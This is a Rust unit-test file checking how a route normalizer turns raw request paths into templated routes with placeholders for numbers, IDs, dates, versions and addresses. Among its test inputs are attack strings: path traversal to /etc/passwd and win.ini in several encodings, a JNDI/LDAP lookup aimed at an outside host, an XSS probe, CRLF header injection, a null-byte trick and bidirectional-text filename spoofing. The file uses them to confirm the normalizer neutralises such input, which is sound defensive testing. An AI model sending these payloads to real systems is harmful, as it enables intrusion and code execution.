//! Does a raw path become the route that one expects?

use ron_accounting_core::{Label, Normalizer, Verdict};
use ron_accounting_normalize::RouteNormalizer;

fn route(raw: &str) -> (Verdict, String) {
    let mut out = String::new();
    let verdict = RouteNormalizer::new().normalize(Label::Route, raw, &mut out);
    (verdict, out)
}

fn assert_table(table: &[(&str, &str)]) {
    for &(raw, expected) in table {
        let (verdict, out) = route(raw);
        assert_eq!(out, expected, "route of {raw:?}");
        let expected_verdict = if raw == expected { Verdict::Clean } else { Verdict::Changed };
        assert_eq!(verdict, expected_verdict, "verdict on {raw:?}");
    }
}

#[test]
fn words_and_files_stay() {
    for raw in [
        "/",
        "/v1/feed",
        "/v1/objects/:id",
        "/v1/objects/:id/versions/:version_2",
        "/files/*rest",
        "/v1/objects:batchGet",
        "/favicon.ico",
        "/robots.txt",
        "/wp-login.php",
        "/head.min.js",
        "/logo@2x.png",
        "/@types/node",
        "/blog/tags/c++grok",
        "/blog/tags/firewall%20bypass",
        "/blog/tags/X11",
        "/css/fonts/OpenSans-BoldItalic.woff2",
        "/api/getUserProfileByEmailAddress",
        "/oauth2/v2.0/authorize",
        "/x86_64-unknown-linux-gnu/release",
        "/deadbeef/effaced/facade",
        "/.well-known/acme-challenge",
        "/:face2face",
        "/~psionic/projects/config.xml",
        "/acme.billing.v1.Invoices/List",
        "/stra%C3%9Fe",
    ] {
        assert_eq!(route(raw), (Verdict::Clean, raw.to_owned()));
    }
}

#[test]
fn values_become_placeholders() {
    assert_table(&[
        ("/users/42", "/users/:num"),
        ("/users/-7", "/users/:num"),
        ("/price/19.99", "/price/:num"),
        ("/tel/555-123-4567", "/tel/:num"),
        ("/blog/2004/May/03", "/blog/:num/May/:num"),
        ("/orders/20240131", "/orders/:num"),
        ("/o/6fa459ea-ee8a-3ca4-894e-db77e160355e", "/o/:uuid"),
        ("/o/6FA459EA-EE8A-3CA4-894E-DB77E160355E/x", "/o/:uuid/x"),
        ("/o/01ARZ3NDEKTSV4RRFFQ69G5FAV", "/o/:ulid"),
        ("/o/01arz3ndektsv4rrffq69g5fav", "/o/:ulid"),
        ("/git/commit/3fa9c81d", "/git/commit/:hex"),
        ("/git/commit/2fd4e1c67a2d28fced849ee1bb76e7391b93eb12", "/git/commit/:hex"),
        ("/k/abcdefabcdefabcdef", "/k/:hex"),
        ("/k/0xdeadbeef01", "/k/:hex"),
        ("/watch/dQw4w9WgXcQ", "/watch/:token"),
        ("/s/V1StGXR8_Z5jdHi6B-myT", "/s/:token"),
        ("/c/cjld2cjxh0000qzrmn831i7rn", "/c/:token"),
        ("/p/price_1MoBy5LkdIwHu7ixZhnattbh", "/p/:token"),
        ("/t/c2Vzc2lvbi1mb3ItYWxpY2U9", "/t/:token"),
        ("/d/2024-01-31", "/d/:date"),
        ("/d/2024_01_31", "/d/:date"),
        ("/d/2024-01-31T12:34:56.789Z", "/d/:date"),
        ("/d/2024-01-31T12%3A34%3A56+01:00", "/d/:date"),
        ("/d/20240131T123456Z", "/d/:date"),
        ("/d/2024-13-31", "/d/:num"),
        ("/u/alice@example.com", "/u/:email"),
        ("/u/alice%40example.com/inbox", "/u/:email/inbox"),
        ("/u/alice+tag@mail.example.co.uk", "/u/:email"),
        ("/u/mailto:alice@163.com", "/u/:email"),
        ("/@alice@social.example", "/:email"),
        ("/ip/192.168.0.1", "/ip/:ip"),
        ("/ip/192.168.0.1:8080", "/ip/:ip"),
        ("/ip/2001:db8::1", "/ip/:ip"),
        ("/ip/%5B2001%3Adb8%3A%3A1%5D:443", "/ip/:ip"),
        ("/ip/fe80::1%25eth0", "/ip/:ip"),
    ]);
}

#[test]
fn values_among_words_become_placeholders() {
    assert_table(&[
        ("/blog/site/183.html", "/blog/site/:num.html"),
        ("/article-12345.html", "/article-:num.html"),
        ("/img_0001.png", "/img_:num.png"),
        ("/img_001.png", "/img_:num.png"),
        ("/user12345", "/user:num"),
        ("/backup-2024-01-31.tar.gz", "/backup-:date.tar.gz"),
        ("/blog/geekery/xdotool-2.20110530.html", "/blog/geekery/xdotool-:version.html"),
        ("/static/main.3fa9c81d.js", "/static/main.:hex.js"),
        ("/static/COPYRIGHT-7fb11f4e.txt", "/static/COPYRIGHT-:hex.txt"),
        ("/i-0abcd1234ef567890", "/i-:hex"),
        ("/report-6fa459ea-ee8a-3ca4-894e-db77e160355e.pdf", "/report-:uuid.pdf"),
        ("/logs/host-10.1.2.3.log", "/logs/host-:ip.log"),
        ("/css/fonts/PRmiXeptR36kaC0GEAetxp_TkvowlIOtbR7ePgFOpF4.ttf", "/css/fonts/:token.ttf"),
        ("/css/fonts/cJZKeOuBrn4kERxqtaUH3aCWcynf_cDxXwCLxiixG1c.ttf", "/css/fonts/:token.ttf"),
        ("/x-12345678901234567890123456", "/x-:num"),
        ("/caf%C3%A912345", "/caf%C3%A9:num"),
    ]);
}

#[test]
fn numbers_in_words_behave_alike_whatever_their_length() {
    for (family, route_of_all) in [
        (["/hls/seg9.ts", "/hls/seg10.ts", "/hls/seg1000.ts", "/hls/seg1999.ts"], "/hls/seg:num.ts"),
        (["/page-1", "/page-22", "/page-333", "/page-2024"], "/page-:num"),
        (["/s01e02.mkv", "/s1e2.mkv", "/s10e12.mkv", "/s2024e120.mkv"], "/s:nume:num.mkv"),
        (["/KPC650", "/KPC7", "/KPC65000", "/KPC1999"], "/KPC:num"),
        (["/lat=52", "/lat=52.5", "/lat=-4", "/lat=-4.25;lon=13"], "/lat=:num"),
        (["/@52.5,13.4", "/@52,13", "/@-33.8,151.2", "/@0,0"], "/@:num,:num"),
    ] {
        for raw in family {
            assert_eq!(route(raw).1, route_of_all, "route of {raw:?}");
        }
    }
}

#[test]
fn names_with_figures_stay() {
    for raw in [
        "/oauth2/token",
        "/s3/buckets",
        "/i18n/messages",
        "/k8s/nodes",
        "/md5/sha256",
        "/IPv6/x86_64-linux",
        "/video.mp4",
        "/font.woff2",
        "/hls/playlist.m3u8",
        "/base64/UTF8",
    ] {
        assert_eq!(route(raw), (Verdict::Clean, raw.to_owned()));
    }
}

#[test]
fn short_random_segments_and_hashed_file_names_are_one_route() {
    assert_table(&[
        ("/assets/index-BhTjS0pX.js", "/assets/index-:token.js"),
        ("/assets/index-DiwrgTda.js", "/assets/index-:token.js"),
        ("/assets/index-Q7cVxk2L.js.map", "/assets/index-:token.js.map"),
        ("/assets/index-B_hTj-0p.css", "/assets/index-:token.css"),
        ("/assets/chunk-X7LHMJ5V.js", "/assets/chunk-:token.js"),
        ("/static/main.3fa9c81d.chunk.js", "/static/main.:hex.chunk.js"),
        ("/s/aB3dE9", "/s/:token"),
        ("/s/Xy7Kp2Q", "/s/:token"),
        ("/s/3xYz9KqW", "/s/:token"),
        ("/files/pRzAdaV1.php", "/files/:token.php"),
        ("/files/J80racNN.php", "/files/:token.php"),
        ("/channels/C024BE91L", "/channels/:token"),
        ("/commit/3fa9c81", "/commit/:hex"),
        ("/watch/V1StGXR8_Z5", "/watch/:token"),
        ("/v1/customers/cus_NffrFeUfNV2Hib", "/v1/customers/:token"),
        ("/v1/users/user_01arz3ndektsv4rrffq69g5fav", "/v1/users/:ulid"),
        ("/o/5O190127TN364715T", "/o/:token"),
        ("/t/bm90IGEgc2VjcmV0IGJ1dCBsb25n==", "/t/:token"),
        ("/blobs/sha256:4bcff63911fcb4448bd4fdacec207030997caf25e9bea4045fa6c8c44de311d1", "/blobs/:hex"),
        ("/assets/index-DataGrid.js", "/assets/index-DataGrid.js"),
        ("/assets/index-OpenSans.js", "/assets/index-OpenSans.js"),
        ("/assets/My-Thing.js", "/assets/My-Thing.js"),
        ("/api/fromJSON", "/api/fromJSON"),
    ]);
}

#[test]
fn versions_of_files_are_values() {
    assert_table(&[
        ("/gems/rails-7.0.1.gem", "/gems/rails-:version.gem"),
        ("/gems/rails-7.1.gem", "/gems/rails-:version.gem"),
        ("/gems/nokogiri-1.16.2-x86_64-linux.gem", "/gems/nokogiri-:version-x86_64-linux.gem"),
        ("/npm/vue@3.4.21/dist/vue.js", "/npm/vue@:version/dist/vue.js"),
        ("/npm/vue@3.5.0-beta.1/dist/vue.js", "/npm/vue@:version/dist/vue.js"),
        ("/jquery-3.7.1.min.js", "/jquery-:version.min.js"),
        ("/app-v1.2.3.zip", "/app-:version.zip"),
        ("/app-1.2.3-rc.1.tar.gz", "/app-:version.tar.gz"),
        ("/org/foo/1.0.0-SNAPSHOT/foo-1.0.0.jar", "/org/foo/:version/foo-:version.jar"),
        ("/releases/tag/v1.2.3", "/releases/tag/:version"),
        ("/download/10.0.19041.1", "/download/:version"),
        ("/tool-1.2.3.4.zip", "/tool-:version.zip"),
    ]);
}

#[test]
fn versions_of_an_api_stay_apart() {
    for raw in [
        "/v1/users",
        "/v2beta1/users",
        "/api/v1p1beta1/users",
        "/services/data/v59.0/sobjects",
        "/2024-01-01/resource",
        "/2024-01-02/resource",
        "/admin/api/2024-10/products.json",
        "/admin/api/2025-01/products.json",
        "/api/2024-05-01-preview/deployments",
        "/v2024-10/users",
        "/v202410/users",
        "/1.1/statuses",
        "/2.0/repositories",
        "/3/movie",
        "/rest/api/2/issue",
        "/rest/api/3/issue",
        "/acme.billing.v1.Invoices/List",
        "/acme.billing.v2.Invoices/List",
    ] {
        assert_eq!(route(raw), (Verdict::Clean, raw.to_owned()));
    }
    assert_table(&[
        ("/blog/2024-01-31/post", "/blog/:date/post"),
        ("/reports/2024-01-31", "/reports/:date"),
        ("/2024-01-31", "/:date"),
        ("/users/3/posts", "/users/:num/posts"),
        ("/42/posts", "/:num/posts"),
        ("/2024-13-01/x", "/:num/x"),
    ]);
}

#[test]
fn hardware_addresses_pods_and_parameters_are_values() {
    assert_table(&[
        ("/mac/00:1a:2b:3c:4d:5e", "/mac/:mac"),
        ("/mac/00%3A1a%3A2b%3A3c%3A4d%3A5f", "/mac/:mac"),
        ("/mac/00-1A-2B-3C-4D-5E", "/mac/:mac"),
        ("/mac/001a.2b3c.4d5e", "/mac/:mac"),
        ("/ap-00:1a:2b:3c:4d:5e.cfg", "/ap-:mac.cfg"),
        ("/k8s/pods/nginx-7c5ddbdf54-x2x8q", "/k8s/pods/nginx-:pod"),
        ("/k8s/pods/nginx-7c5ddbdf54-9kq4d/log", "/k8s/pods/nginx-:pod/log"),
        ("/k8s/pods/backup-28475820-x2x8q", "/k8s/pods/backup-:pod"),
        ("/k8s/pods/fluentd-x2x8q", "/k8s/pods/fluentd-:pod"),
        ("/weather/lat=52.52;lon=13.41", "/weather/lat=:num"),
        ("/weather/lat=48.13;lon=11.57", "/weather/lat=:num"),
        ("/weather;lat=48.13;lon=11.57", "/weather"),
    ]);
}

#[test]
fn request_targets_are_reduced_to_their_path() {
    assert_table(&[
        ("*", "*"),
        ("example.com:443", ":authority"),
        ("[2001:db8::1]:443", ":authority"),
        ("http://example.com", "/"),
        ("http://example.com?q=1", "/"),
        ("https://alice:secret@example.com:8080/a/42?token=x#y", "/a/:num"),
        ("/search?q=alice@example.com&page=2", "/search"),
        ("/page#section-4", "/page"),
        ("?C=M;O=A", "/"),
        ("v1/feed", "/v1/feed"),
        ("  /v1/feed\t", "/v1/feed"),
        ("//favicon.ico", "/favicon.ico"),
        ("///", "/"),
        ("/about/", "/about"),
        ("/proxy/http://evil.example/x", "/proxy/http:/evil.example/x"),
    ]);
}

#[test]
fn dot_segments_cannot_escape() {
    assert_table(&[
        ("/a/./b/../c", "/a/c"),
        ("/../../etc/passwd", "/etc/passwd"),
        ("/a/%2e%2e/%2E%2E/etc/passwd", "/etc/passwd"),
        ("/a/.%2e/b", "/b"),
        ("/a/..;/b", "/b"),
        ("/a/..;x=1/../b", "/b"),
        ("/a/..%3B/b", "/b"),
        ("/a/b/..", "/a"),
        ("/..", "/"),
        ("/a//../b", "/b"),
        ("/a/.../b", "/a/.../b"),
        ("/..%2f..%2fetc/passwd", "/:path/passwd"),
        ("/..%5c..%5cwindows/win.ini", "/:path/win.ini"),
        ("/..\\..\\windows/win.ini", "/:path/win.ini"),
        ("/%252e%252e/%252e%252e/etc", "/:invalid/:invalid/etc"),
        ("/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "/:invalid/:invalid/etc/passwd"),
    ]);
}

#[test]
fn encoding_is_normalized() {
    assert_table(&[
        ("/%41%7e%2D", "/A~-"),
        ("/a%2bb%3d", "/a%2Bb%3D"),
        ("/stra\u{df}e", "/stra%C3%9Fe"),
        ("/stra%c3%9fe", "/stra%C3%9Fe"),
        ("/two words", "/two%20words"),
        ("/Feed", "/Feed"),
        ("/50%", "/:invalid"),
        ("/50%zz", "/:invalid"),
        ("/50%25", "/:num%25"),
        ("/50%2541", "/:invalid"),
        ("/%ff%fe", "/:invalid"),
        ("/a%00.php", "/:invalid"),
        ("/a%0d%0aSet-Cookie:x", "/:invalid"),
        ("/a\u{202e}gpj.exe", "/:invalid"),
        ("/a%E2%80%8Bb", "/:invalid"),
        ("/a\u{fffd}b", "/:invalid"),
        ("/a\nb", "/:invalid"),
    ]);
}

#[test]
fn what_frameworks_and_scanners_send() {
    assert_table(&[
        ("/v1/objects/{id}", "/v1/objects/:id"),
        ("/v1/objects/{id}:undelete", "/v1/objects/:id:undelete"),
        ("/v1/{name}.json", "/v1/:name.json"),
        ("/files/{*rest}", "/files/*rest"),
        ("/a/b;jsessionid=1A530637289A03B07199A44E8D531427", "/a/b"),
        ("/a/;x=1/b", "/a/b"),
        ("/api/v4/projects/group%2Fproject/issues", "/api/v4/projects/:path/issues"),
        ("/projects/xdotool%3E", "/projects/:text"),
        ("/<script>alert(1)<", "/:text"),
        ("/${jndi:ldap://198.51.100.7/a}", "/:text/:ip/:text"),
        ("/cgi-bin/luci/;stok=/locale", "/cgi-bin/luci/locale"),
        ("/projects/xdotool/+++++Result:+chosen+nickname+%22awarovadoms%22;sent;", "/projects/xdotool/:text"),
        ("/:2024-secret", "/::num-secret"),
        ("/:id12345678", "/:id:num"),
    ]);
}

#[test]
fn words_for_a_whole_route_stay() {
    for raw in ["", "~overflow", "~invalid", "~redacted", "*", ":unmatched", ":authority"] {
        assert_eq!(route(raw), (Verdict::Clean, raw.to_owned()));
    }
}

#[test]
fn further_forms_of_identifiers_dates_and_versions() {
    assert_table(&[
        ("/o/{6fa459ea-ee8a-3ca4-894e-db77e160355e}", "/o/:uuid"),
        ("/o/%7B6fa459ea-ee8a-3ca4-894e-db77e160355e%7D", "/o/:uuid"),
        ("/o/dGhpcyBpcyBhIHRlc3Q%3D", "/o/:token"),
        ("/b/080442957X", "/b/:num"),
        ("/b/0-306-40615-2", "/b/:num"),
        ("/d/31.01.2024", "/d/:date"),
        ("/d/01-31-2024", "/d/:date"),
        ("/d/31-Jan-2024", "/d/:date"),
        ("/d/report-31-01-2024.pdf", "/d/report-:date.pdf"),
        ("/d/31.13.2024", "/d/:version"),
        ("/v/1.2.3-beta.1+build.5", "/v/:version"),
        ("/v/v1.2.3-alpha.beta", "/v/:version"),
        ("/v/1.2.3+21af26d3", "/v/:version"),
    ]);
}

#[test]
fn names_with_figures_stay_apart() {
    assert_table(&[
        ("/pods/kafka-365", "/pods/kafka-:num"),
        ("/js/365.8f3a2b1c.chunk.js", "/js/:num.:hex.chunk.js"),
    ]);
    for raw in
        ["/top10", "/top100", "/vue3", "/win11", "/4k", "/2fa", "/web3", "/h264", "/mp3", "/p256", "/q4"]
    {
        assert_eq!(route(raw), (Verdict::Clean, raw.to_owned()));
    }
}
